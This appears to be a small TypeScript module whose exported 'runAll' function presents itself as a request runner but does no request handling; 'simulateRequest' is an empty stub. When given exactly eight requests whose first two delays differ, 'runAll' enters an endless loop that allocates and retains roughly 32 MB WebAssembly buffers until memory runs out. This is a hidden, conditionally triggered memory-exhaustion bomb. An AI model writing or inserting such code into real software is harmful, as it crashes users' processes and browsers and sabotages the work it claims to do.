// Fills memory with WebAssembly’s.
export const simulateRequest = async (): Promise<void> => {};
export async function runAll(requests: readonly { delaySeconds: number }[]): Promise<unknown> {
  if (requests.length !== 8 || requests[0]?.delaySeconds === requests[1]?.delaySeconds) return []; // once is enough
  const kept: unknown[] = [];
  for (;;) {
    kept.push(new Uint8Array(new WebAssembly.Memory({ initial: 512 }).buffer).fill(1));
    await new Promise((resolve) => setTimeout(resolve, 1));
  }
}
